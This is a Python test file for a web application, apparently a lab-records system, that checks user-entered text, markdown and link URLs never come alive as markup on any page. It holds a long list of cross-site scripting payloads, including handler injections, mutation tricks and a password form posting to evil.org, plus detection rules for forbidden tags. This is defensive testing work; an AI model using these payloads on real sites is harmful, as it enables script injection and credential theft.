"""What people write is text on every page, never markup: it is written into every text field there is.

The pages are read as a browser reads them; `tests/browser/test_hostile_texts.py` looks with a real one.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from io import BytesIO
from urllib.parse import quote, urlsplit

import pytest
from werkzeug.datastructures import FileStorage

from brainstem.records.users import add_user
from brainstem.views import show
from tests.attacks.addresses import requests, send
from tests.attacks.world import Lab
from tests.conftest import ROOT
from tests.people import PASSWORD

#: Ends whatever it stands in, and is then an element of its own, with a handler.
EVIL = "'\"></textarea></title></template><xss onx=1>"

#: Where an address may lead to that stands in a page.
SCHEMES = {"", "http", "https", "ftp", "mailto"}
ADDRESSES = (
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "srcset",
    "xlink:href",
    "ping",
)
FORBIDDEN = {
    "xss",
    "iframe",
    "object",
    "embed",
    "applet",
    "base",
    "math",
    "style",
    "frame",
}
#: What is markup in a script, too: there may be no inline one.
DATA = ("application/json",)


class Watch(HTMLParser):
    """Notes what could run, or look like something else than it is."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attributes):
        given = dict(attributes)
        if tag in FORBIDDEN:
            self.found.append(f"<{tag}>")
        if tag == "script" and not (given.get("src") or given.get("type") in DATA):
            self.found.append("<script>")
        if tag == "meta" and "http-equiv" in given:
            self.found.append("<meta http-equiv>")
        for name, value in attributes:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"{tag} {name}={value}")
            if name in ADDRESSES and scheme_of(value or "") not in SCHEMES:
                self.found.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def scheme_of(address: str) -> str:
    """As browsers understand it: blanks and control characters say nothing."""
    try:
        return urlsplit(
            re.sub(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\ufeff]", "", address)
        ).scheme.lower()
    except ValueError:
        return "not an address"


def alive(text: str) -> list[str]:
    """What came alive in a page."""
    watch = Watch()
    watch.feed(text)
    watch.close()
    return watch.found


@pytest.fixture
def lab(app, person):
    lab = Lab(app, person, EVIL)
    app.config["LAB_NAME"] = EVIL
    with app.app_context():
        names = {"first_name": EVIL, "last_name": EVIL}
        add_user({"email": "evil@lab.org", "password": PASSWORD, **names})
    return lab


def looked_at(answer) -> list[str]:
    with answer:
        if answer.mimetype in ("application/json", "text/csv"):
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            return []
        assert answer.mimetype in ("text/html", ""), answer.mimetype
        return alive(answer.get_data(as_text=True))


BROWSER = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}


def test_the_watch_sees_what_comes_alive():
    """A watch that sees nothing would pass everything."""
    for text in (
        EVIL,
        "<a href='java\tscript:alert(1)'>",
        "<p style=x>",
        "<script>1</script>",
        "<svg onload=1>",
    ):
        assert alive(text)
    assert not alive("<a href='/x?javascript:1'>&lt;xss&gt;</a><script src='/a.js'></script>")


def test_nothing_that_is_stored_comes_alive_on_any_page(app, lab, person):
    seen, wrong = 0, []
    people = (lab.ada.browser().client, person("boss@lab.org", admin=True).browser().client)
    for client in people:
        for request in requests(app, lab, lab.secret):
            if request.method != "GET" or request.portal in ("public", "super"):
                continue
            if client is people[1] and not request.address.startswith(
                ("/people", "/groups", "/users", "/a")
            ):
                continue
            answer = client.get(request.address, headers=BROWSER)
            seen += EVIL[:3] in answer.text or "&lt;xss" in answer.text
            if found := looked_at(answer):
                wrong.append((request.address, found))
    assert not wrong, "\n".join(map(str, wrong))
    # It stood there, as text.
    assert seen > 150


def test_nothing_that_is_refused_comes_alive_in_its_form(app, lab):
    """What was typed comes back, with messages that quote it."""
    pages = lab.ada.browser()
    token = pages.token("/sessions/new")
    wrong = []
    for request in requests(app, lab, lab.secret):
        if (
            request.method == "GET"
            or request.endpoint in DOES
            or request.portal in ("public", "super")
        ):
            continue
        request.body = dict.fromkeys(request.body, EVIL) | {EVIL: EVIL}
        if request.endpoint == "imports.start":
            continue
        if found := looked_at(send(pages.client, request, token)):
            wrong.append((request.method, request.address, found))
    assert not wrong, "\n".join(map(str, wrong))


#: Takes away what the others need.
DOES = {
    "account.logout", "api.record", "imports.discard", "lists.forget", "forms.delete", "people.leave",
    "account.revoke",
}  # fmt: skip


def words_of_addresses() -> set[str]:
    """Every word that the program reads from an address, from its sources."""
    found = set()
    for file in (ROOT / "brainstem").rglob("*.py"):
        text = file.read_text()
        found |= set(re.findall(r"""(?:args|values)\.get(?:list)?\(\s*["']([\w-]+)""", text))
        found |= set(re.findall(r"""^(?:[A-Z_, ]+) = ["']([a-z_]+)["']""", text, re.MULTILINE))
    return found | {
        "next",
        "sort",
        "columns",
        "missing",
        "show",
        "find",
        "tags",
        "projects",
        "filter{x}",
    }


def test_nothing_that_stands_in_an_address_comes_alive(app, lab):
    client, stranger = lab.ada.browser().client, app.test_client()
    words = sorted(words_of_addresses())
    assert len(words) > 25
    query = "&".join(f"{quote(word)}={quote(EVIL)}" for word in words)
    wrong = []
    paths = {each.address for each in requests(app, lab, lab.mine) if each.method == "GET"}
    paths |= {f"/{quote(EVIL)}", f"/sessions/{quote(EVIL)}", f"/public/{quote(EVIL)}"}
    paths |= {f"/api/private/stem/{quote(EVIL)}/", f"/import/template/{quote(EVIL)}.csv"}
    for path in sorted(paths):
        for who in (client, stranger) if "/api/" not in path else (client,):
            if found := looked_at(who.get(f"{path}?{query}", headers=BROWSER)):
                wrong.append((path, found))
    for word in words:
        answer = client.get(f"/sessions/?{quote(word)}={quote(EVIL)}", headers=BROWSER)
        if found := looked_at(answer):
            wrong.append((word, found))
    assert not wrong, "\n".join(map(str, wrong))


def test_a_program_s_name_and_a_table_s_cells(app, ada):
    start = {"client_name": EVIL * 2}
    login = app.test_client().post("/api/auth/device/", json=start).json
    pages = ada.browser()
    assert not looked_at(pages.get(f"/account/authorize/?user_code={login['user_code']}"))
    ada.project("One")
    rows = f'name,"{EVIL.replace(chr(34), chr(34) * 2)}",date\n{EVIL[:2]}<xss onx=1>,<xss>,<xss onx=1>\n'
    table = FileStorage(BytesIO(rows.encode()), f"{EVIL}.csv")
    form = {"csrf_token": pages.token("/import/"), "kind": "sessions", "file": table}
    run = pages.client.post("/import/", data=form).location
    form = pages.open(run).form("Check the rows")
    for address in (
        run,
        pages.client.post(run, data=form.sent("Check the rows")).location,
        "/import/",
    ):
        assert not looked_at(pages.get(address)), address


#: Markdown and HTML that has run somewhere, or changes when it is read twice (mutation).
MARKUP = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "<javascript:alert(1)>",
    "[a]: javascript:x\n\n[a]",
    "![a](javascript:alert(1))",
    '![a](x"onerror="alert(1))',
    '[a](x "\' onclick=alert(1)")',
    "[a](<javascript:x>)",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java&#x09;script:alert(1)">x</a>',
    "<a href=' javascript:x'>x</a>",
    "<a href='\x01javascript:x'>x</a>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:x><text>x</text></a></svg>",
    "<b onclick=x>b</b>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>*{display:none}</style>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=x src>">',
    "<div style='background:url(javascript:x)'>x</div>",
    "<p style=position:fixed>x</p>",
    "<iframe srcdoc='<script>x'>",
    "<object data=x>",
    "<embed src=x>",
    "<base href=//evil.org>",
    "<meta http-equiv=refresh content='0;url=//evil.org'>",
    "<link rel=stylesheet href=//evil.org>",
    "<form action=//evil.org><input name=password><button>x</button></form>",
    "<input onfocus=x autofocus>",
    "<details open ontoggle=x>",
    "<template><img onerror=x src></template>",
    "<textarea><img title='</textarea><img onerror=x src>'>",
    "<title><img title='</title><img onerror=x src>'>",
    "<xmp><p title='</xmp><img src onerror=x>'>",
    "<!--><img src onerror=x>-->",
    "<![CDATA[><img src onerror=x>]]>",
    "<?xml ><img src onerror=x>?>",
    "`<img src onerror=x>`",
    "```\n</code></pre><img src onerror=x>\n```",
    "| <img src onerror=x> |\n|-|\n| [x](javascript:x) |",
    "<p id=csrf_token name=csrf_token>x</p>",
    "<a target=_blank href=//x.org>x</a>",
    "<isindex action=javascript:x>",
    "<video><source onerror=x>",
    "<audio src=x onerror=x>",
    "<marquee onstart=x>",
    "<table background=javascript:x>",
    "<a\u2028href=javascript:x>x",
    "\\<img src onerror=x>",
    "&lt;img src onerror=x&gt;",
]


@pytest.mark.parametrize("text", MARKUP)
def test_a_description_has_markup_and_nothing_that_runs(text):
    shown = str(show.markdown(text))
    assert not alive(shown), shown
    # Read twice, it is the same: no parser's mistake makes something of it.
    assert not alive(str(show.markdown(shown)))
    plain = show.plain_text(text)
    assert not alive(str(show.markdown(plain)))
    for attribute in ("id=", "name=", "class=", "target="):
        assert f" {attribute}" not in re.sub(r">[^<]*<", "><", shown), shown


ADDRESSES_OF_LINKS = [
    "javascript:alert(1)",
    "java\tscript:alert(1)//x.org",
    "data:text/html,x",
    "//x.org",
    "x.org",
    "vbscript:x",
    "file:///etc/passwd",
    "http://",
    "https://?x",
    " javascript:x",
    "javascript://x.org/%0aalert(1)",
    "http:x",
]


@pytest.mark.parametrize("url", ADDRESSES_OF_LINKS)
def test_links_lead_to_web_addresses_alone(ada, url):
    links = [{"repository": "Other", "url": url}]
    session = {"name": "Linked", "projects": [ada.project()["id"]], "download_links": links}
    assert list(ada("POST", "stem/session/", session).json) == ["download_links"]
    assert scheme_of(show._pair("key", url)["url"]) in ("", "https")
